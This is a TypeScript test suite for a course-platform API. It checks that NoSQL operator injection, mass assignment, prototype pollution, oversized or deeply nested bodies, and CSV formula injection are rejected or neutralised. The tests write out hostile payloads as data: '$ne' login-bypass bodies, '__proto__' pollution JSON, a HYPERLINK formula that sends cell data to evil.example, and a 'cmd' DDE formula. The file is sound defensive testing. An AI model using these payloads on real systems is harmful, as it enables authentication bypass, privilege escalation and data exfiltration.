// Hostile request bodies: operators where strings belong (NoSQL injection), fields nobody may set
// (mass assignment, __proto__), bodies too big or too deep, and spreadsheet formulas in what the
// campus exports. Each gets a clear 4xx and changes nothing.
import { UserModel } from '../../accounts/user.model';
import { enrollInCourse } from '../../courses/enrollment/enrollment.service';
import { createPublishedCourse, createTestUser, testPassword } from '../support/factories';
import { apiClient, apiLogin, apiUser, browser, submitForm } from '../support/http';
import { startTestCampus, type TestCampus } from '../support/test-campus';

let campus: TestCampus;
beforeAll(async () => {
  campus = await startTestCampus();
});
afterAll(() => campus.close());

test('query operators where strings belong are refused, not run: login, profile, search', async () => {
  const user = await createTestUser();
  const client = await apiClient(campus.app);
  const login = await client.agent
    .post('/api/v1/auth/login')
    .set('x-csrf-token', client.csrf)
    .send({ email: { $ne: null }, password: { $ne: null } });
  expect(login.status).toBe(422);
  expect(login.body.errors.map((e: { field: string }) => e.field).sort()).toEqual([
    'email',
    'password',
  ]);
  await client.agent.get('/api/v1/me').expect(401);

  // The urlencoded parser is not extended: email[$ne]= stays a plain key, never an object.
  const form = await submitForm(browser(campus.app), '/login', '/login', {
    'email[$ne]': 'x',
    'password[$ne]': 'x',
  });
  expect(form.status).toBe(422);

  const me = await apiLogin(campus.app, { email: user.email, password: testPassword });
  const patch = await me.agent
    .patch('/api/v1/me')
    .set('x-csrf-token', me.csrf)
    .send({ displayName: { $gt: '' } });
  expect(patch.status).toBe(422);
  expect(patch.body.errors[0].field).toBe('displayName');
  expect((await UserModel.findById(user._id).lean())!.displayName).toBe('Test Student');

  const admin = await apiUser(campus.app, ['admin']);
  // Express's simple query parser keeps q[$ne] a key of its own: no q at all, no operator.
  const search = await admin.agent.get('/api/v1/admin/students?q[$ne]=x').expect(200);
  const none = await admin.agent.get('/api/v1/admin/students').expect(200);
  expect(search.body).toEqual(none.body);
  const typed = await admin.agent.get(`/api/v1/admin/students?q=${encodeURIComponent(user.email)}`);
  expect(typed.body.students.map((s: { email: string }) => s.email)).toEqual([user.email]);
});

test('fields nobody may set are ignored or refused: roles, epoch, prototype', async () => {
  const client = await apiClient(campus.app);
  const registered = await client.agent
    .post('/api/v1/auth/register')
    .set('x-csrf-token', client.csrf)
    .send({
      email: 'mass.assignment@example.org',
      password: testPassword,
      displayName: 'Mass Assignment',
      language: 'en',
      roles: ['admin'],
      role: 'admin',
      sessionEpoch: 99,
    });
  expect(registered.status).toBe(202);
  const stored = await UserModel.findOne({ email: 'mass.assignment@example.org' }).lean();
  expect(stored!.roles).toEqual(['student']);
  expect(stored!.sessionEpoch).toBe(0);

  const me = await apiLogin(campus.app, {
    email: 'mass.assignment@example.org',
    password: testPassword,
  });
  const patch = await me.agent
    .patch('/api/v1/me')
    .set('x-csrf-token', me.csrf)
    .set('content-type', 'application/json')
    .send(
      '{"displayName":"Still A Student","roles":["admin"],"__proto__":{"roles":["admin"],"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    );
  expect(patch.status).toBe(200);
  expect(patch.body.user.roles).toEqual(['student']);
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  const after = await UserModel.findById(stored!._id).lean();
  expect(after!.roles).toEqual(['student']);
  expect(after!.displayName).toBe('Still A Student');
  // Still a student where it counts.
  await me.agent.get('/admin/students').expect(403);
});

test('bodies too large or too deep get a 4xx problem, never a 5xx, and change nothing', async () => {
  const user = await createTestUser({ displayName: 'Unchanged' });
  const me = await apiLogin(campus.app, { email: user.email, password: testPassword });
  const huge = await me.agent
    .patch('/api/v1/me')
    .set('x-csrf-token', me.csrf)
    .send({ displayName: 'x'.repeat(200_000) });
  expect(huge.status).toBe(413);
  expect(huge.headers['content-type']).toMatch(/problem\+json/);

  let deep = '"bottom"';
  for (let level = 0; level < 5000; level++) deep = `{"a":${deep}}`;
  const nested = await me.agent
    .patch('/api/v1/me')
    .set('x-csrf-token', me.csrf)
    .set('content-type', 'application/json')
    .send(`{"displayName":${deep}}`);
  expect(nested.status).toBe(422);
  expect(nested.body.errors[0].field).toBe('displayName');

  const arrays = await me.agent
    .patch('/api/v1/me')
    .set('x-csrf-token', me.csrf)
    .set('content-type', 'application/json')
    .send(`{"displayName":${'['.repeat(20_000)}${']'.repeat(20_000)}}`);
  expect(arrays.status).toBeGreaterThanOrEqual(400);
  expect(arrays.status).toBeLessThan(500);
  expect((await UserModel.findById(user._id).lean())!.displayName).toBe('Unchanged');
});

test('exports quote cells that a spreadsheet would run as a formula (= + - @)', async () => {
  const student = await createTestUser();
  for (const [slug, title] of [
    ['formula-eq', '=HYPERLINK("https://evil.example/?x="&A1,"Open")'],
    ['formula-plus', '+1+cmd|" /C calc"!A0'],
    ['formula-minus', '-2+3'],
    ['formula-at', '@SUM(1,2)'],
  ] as const) {
    await createPublishedCourse(slug, [{ kind: 'lesson', title: 'One' }]);
    const { CourseModel } = await import('../../courses/catalog/course.model');
    await CourseModel.updateOne({ slug }, { $set: { title } });
    await enrollInCourse(campus.context, String(student._id), slug);
  }
  const admin = await apiUser(campus.app, ['admin']);
  const csv = await admin.agent.get('/admin/reports/course-completion.csv').expect(200);
  const cells = csv.text.split(/\r?\n/).map((line) => line.split(',')[0]);
  expect(cells).toEqual(
    expect.arrayContaining([
      `"'=HYPERLINK(""https://evil.example/?x=""&A1`,
      `"'+1+cmd|"" /C calc""!A0"`,
      `'-2+3`,
      `"'@SUM(1`,
    ]),
  );
  for (const cell of cells) expect(cell).not.toMatch(/^"?[=+\-@]/);
});
